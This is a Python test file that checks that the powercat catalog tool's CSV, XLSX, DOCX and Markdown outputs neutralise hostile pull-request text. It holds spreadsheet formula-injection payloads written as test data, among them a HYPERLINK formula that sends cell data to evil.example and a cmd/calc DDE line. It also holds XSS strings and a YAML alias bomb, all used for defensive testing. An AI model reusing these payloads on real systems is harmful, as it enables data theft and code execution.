"""What a pull request's text can do to powercat's outputs: nothing. No formula in a spreadsheet,
no control character in a file that cannot hold it (nor a crash after a clean validate), no
markup or way out of a code span in Markdown, no alias bomb (docs/security.md)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import subprocess
import time
import zipfile
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from powercat.cli import app
from powercat.adopt.export import Item, to_csv, to_docx, to_xlsx
from powercat.catalog.model import Power
from powercat.charts.dot import html, quote
from powercat.site import data as site_data

from .conftest import CASES

runner = CliRunner()
BASE = (CASES / "_power.yaml").read_text(encoding="utf-8")
POWER = "catalogs/demo/powers/XK-DEMO-001.yaml"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
FORMULAS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1"]


def _power(**replace: str) -> str:
    text = BASE
    for old, new in replace.items():
        text = text.replace(old, new)
    return text


def _injected() -> str:
    """A clean power whose name, conditions and materials are formulas (each passes validate)."""
    items = ", ".join(json.dumps(f, ensure_ascii=False) for f in FORMULAS[1:])
    return _power(**{"name: 建筑工程施工许可证核发": f"name: {json.dumps(FORMULA, ensure_ascii=False)}",
                     "duties:": f"conditions: [{items}]\nmaterials: [{items}]\nduties:"})


def _cli(*args: str) -> object:
    return runner.invoke(app, list(args))


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode("utf-8")


def _xlsx_texts(data: bytes) -> list[str]:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    return [c.value for row in wb.active.iter_rows() for c in row if isinstance(c.value, str)]


def _no_formula_cells(data: bytes) -> None:
    xml = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml, "a text became a formula cell"
    texts = _xlsx_texts(data)
    assert FORMULA in texts and "\n".join(FORMULAS[1:]) in texts  # kept exactly, as text


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def _no_formula_in_csv(data: bytes) -> None:
    cells = _csv_cells(data)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r'="\d+"', c)]
    assert "'" + FORMULA in cells


def test_the_public_data_files_hold_no_formula(repo, tmp_path: Path) -> None:  # noqa: ANN001
    root = repo({POWER: _injected()})
    assert _cli("validate", "--root", str(root), "--no-cache").exit_code == 0
    out = tmp_path / "site"
    result = _cli("publish", "--root", str(root), "--out", str(out), "--no-flowcharts", "--no-fulltext")
    assert result.exit_code == 0, result.output
    _no_formula_in_csv((out / "data/powers.csv").read_bytes())
    _no_formula_cells((out / "data/powers.xlsx").read_bytes())
    assert "quotePrefix=\"1\"" in zipfile.ZipFile(out / "data/powers.xlsx").read("xl/styles.xml").decode()


def test_export_holds_no_formula_and_import_reads_the_text_back(repo, tmp_path: Path) -> None:  # noqa: ANN001
    root = repo({POWER: _injected()})
    for fmt in ("csv", "xlsx"):
        target = tmp_path / f"out.{fmt}"
        result = _cli("export", "--root", str(root), "--format", fmt, "--output", str(target))
        assert result.exit_code == 0, result.output
        (_no_formula_in_csv if fmt == "csv" else _no_formula_cells)(target.read_bytes())
    other = tmp_path / "other"
    other.mkdir()
    (other / "powercat.toml").write_text('[site]\ntitle = "测试"\n', encoding="utf-8")
    (other / "catalogs/demo").mkdir(parents=True)
    (other / "catalogs/demo/department.yaml").write_text((CASES / "_department.yaml").read_text(encoding="utf-8"),
                                                          encoding="utf-8")
    result = _cli("import", str(tmp_path / "out.csv"), "--root", str(other), "--department", "demo")
    assert result.exit_code == 0, result.output
    import yaml

    back = yaml.safe_load((other / POWER).read_text(encoding="utf-8"))
    assert back["name"] == FORMULA and back["conditions"] == [f.strip() for f in FORMULAS[1:]]


def test_report_csv_holds_no_formula(repo) -> None:  # noqa: ANN001
    records = ("- power: XK-DEMO-001\n  case: \"=cmd|' /C calc'!A0\"\n  exercised_on: 2024-09-02\n"
               "  recorded_on: 2024-09-03\n  result: 准予许可\n")
    root = repo({POWER: _power(**{"timing: long_term": "timing: timely, within_days: 7"}),
                 "records/demo/2024-09.yaml": records})
    result = _cli("report", "--root", str(root), "--format", "csv", "--month", "2024-09", "--as-of", "2024-10-21")
    assert result.exit_code == 0, result.output
    cells = _csv_cells(result.stdout.encode("utf-8"))
    assert "'=cmd|' /C calc'!A0" in cells and "=cmd|' /C calc'!A0" not in cells


CONTROLS = ["\\x0b", "\\x1b", "\\x00", "\\ufffe", "\\x0c", "\\u202e"]


@pytest.mark.parametrize("escape", CONTROLS)
def test_an_escaped_control_character_is_pc101_and_crashes_nothing(repo, tmp_path: Path, escape: str) -> None:  # noqa: ANN001
    text = _power(**{"name: 建筑工程施工许可证核发": f'name: "建筑工程{escape}施工许可证核发"',
                     "name: 受理,": f'name: "受理{escape}",'})
    root = repo({POWER: text})
    result = _cli("validate", "--root", str(root), "--no-cache", "--format", "json")
    assert result.exit_code == 1
    found = [(d["code"], d["line"], d["column"]) for d in json.loads(result.stdout)["diagnostics"]]
    assert ("PC101", 3, 7) in found and any(c == "PC101" and line == 28 for c, line, _ in found)
    out = tmp_path / "site"
    published = _cli("publish", "--root", str(root), "--out", str(out), "--allow-errors", "--no-fulltext")
    assert published.exit_code == 0 and "Traceback" not in published.output, published.output
    for fmt in ("csv", "xlsx", "docx"):
        exported = _cli("export", "--root", str(root), "--format", fmt, "--output", str(tmp_path / f"x.{fmt}"))
        assert exported.exit_code == 0 and "Traceback" not in exported.output, exported.output
    rendered = _cli("render", "--root", str(root), "--out", str(tmp_path / "charts"))
    assert "Traceback" not in rendered.output


def test_writers_neutralise_control_characters_that_reach_them_another_way() -> None:
    data = __import__("yaml").safe_load(BASE)
    data["name"] = "建筑\x0b工程\x1b[31m\x00许可\ufffe"
    data["procedures"][0]["steps"][1]["name"] = "受理\x0c"
    power = Power.model_validate(data)  # the model class itself: the loader would refuse it
    rows = [Item(1, "示例局\x0b", power)]
    stamp = dt.datetime(2024, 1, 1)
    for made in (to_xlsx(rows, stamp, "目录"), to_docx(rows, stamp, "目录")):
        with zipfile.ZipFile(io.BytesIO(made)) as z:
            for name in (n for n in z.namelist() if n.endswith(".xml")):
                assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f]", z.read(name)), name
    assert "\x0b" not in to_csv(rows).decode("utf-8-sig")
    assert "\x0c" not in html("受理\x0c") and "\x0c" not in quote("受理\x0c")
    from powercat.charts.flowcharts import external_chart
    from powercat.charts.render import render_sources

    [svg] = render_sources([external_chart(power, 0, None).source], "svg", 1)
    assert isinstance(svg, bytes) and b"<svg" in svg
    view = type("V", (), {"power": power, "dept_name": "示例局\x0b", "url": "powers/XK-DEMO-001/", "changed": None,
                          "dept_id": "demo", "channels": lambda self, kind: []})()
    assert b"<f>" not in site_data.powers_xlsx([view], stamp)


def test_an_alias_bomb_is_refused_where_it_is_without_expanding_it(repo, tmp_path: Path) -> None:  # noqa: ANN001
    body = "x" * 100_000
    bomb = _power() + f"notes: &big {body}\nmore: [" + ", ".join(["*big"] * 20_000) + "]\n"
    assert len(bomb) < 400_000
    root = repo({POWER: _power()})
    git = ["git", "-C", str(root), "-c", "user.name=t", "-c", "user.email=t@e"]
    subprocess.run(["git", "init", "-q", "-b", "main", str(root)], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "base"], check=True)
    (root / POWER).write_text(bomb, encoding="utf-8")  # the pull request's change
    start = time.perf_counter()
    result = _cli("validate", "--root", str(root), "--no-cache", "--format", "json")
    assert result.exit_code == 1
    [d] = [d for d in json.loads(result.stdout)["diagnostics"] if d["code"] == "PC100"]
    line = bomb[: bomb.index("more:")].count("\n") + 1  # the key whose value expands
    assert (d["line"], d["column"]) == (line, 1) and "10000000" in d["message"]
    diffed = _cli("diff", "HEAD", "--root", str(root), "--format", "markdown")  # run on every pull request
    assert diffed.exit_code == 0 and "Traceback" not in diffed.output, diffed.output
    subprocess.run([*git, "commit", "-qam", "bomb"], check=True)
    assert _cli("diff", "HEAD~1", "HEAD", "--root", str(root)).exit_code == 0
    for command in (["publish", "--out", str(tmp_path / "site"), "--allow-errors", "--no-fulltext", "--no-flowcharts"],
                    ["export", "--format", "xlsx", "--output", str(tmp_path / "x.xlsx")], ["report"],
                    ["render", "--out", str(tmp_path / "charts")]):
        done = _cli(*command, "--root", str(root))
        assert done.exit_code in (0, 1) and "Traceback" not in done.output, (command, done.output)
    assert time.perf_counter() - start < 60


def _html(markdown: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown)


def test_a_department_folder_cannot_leave_its_code_span_in_the_diff_comment(repo) -> None:  # noqa: ANN001
    folder = "x`<img src=x onerror=alert(1)>`"
    root = repo({POWER: BASE})
    subprocess.run(["git", "init", "-q", "-b", "main", str(root)], check=True)
    git = ["git", "-C", str(root), "-c", "user.name=t", "-c", "user.email=t@e"]
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "base"], check=True)
    dept = (CASES / "_department.yaml").read_text(encoding="utf-8").replace("name: 示例县测试局", "name: '**粗体** <b>x</b>'")
    (root / "catalogs" / folder / "powers").mkdir(parents=True)
    (root / "catalogs" / folder / "department.yaml").write_text(dept, encoding="utf-8")
    (root / "catalogs" / folder / "powers" / "XK-DEMO-002.yaml").write_text(
        _power(**{"XK-DEMO-001": "XK-DEMO-002", "name: 建筑工程施工许可证核发": "name: '[点我](javascript:alert(1)) ![x](https://evil.example/t.png)'"}),
        encoding="utf-8")
    result = _cli("diff", "HEAD", "--root", str(root), "--format", "markdown")
    assert result.exit_code == 0, result.output
    rendered = _html(result.stdout)
    assert "<img" not in rendered and "<b>x</b>" not in rendered and "<strong>粗体" not in rendered
    assert "<a " not in rendered and "href" not in rendered
    assert "<b>XK-DEMO-002</b> [点我](javascript:alert(1)) ![x](https://evil.example/t.png)" in rendered  # as written
    assert f"<code>catalogs/{folder.replace('<', '&lt;').replace('>', '&gt;')}/powers/XK-DEMO-002.yaml</code>" in rendered


def test_report_markdown_passes_no_html(repo) -> None:  # noqa: ANN001
    dept = (CASES / "_department.yaml").read_text(encoding="utf-8").replace(
        "name: 示例县测试局", "name: '<script>alert(1)</script> **x** [a](https://evil.example)'")
    root = repo({"catalogs/demo/department.yaml": dept, POWER: BASE})
    result = _cli("report", "--root", str(root), "--format", "markdown")
    rendered = _html(result.stdout)
    assert "<script>" not in rendered and "<strong>" not in rendered and "<a " not in rendered
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered
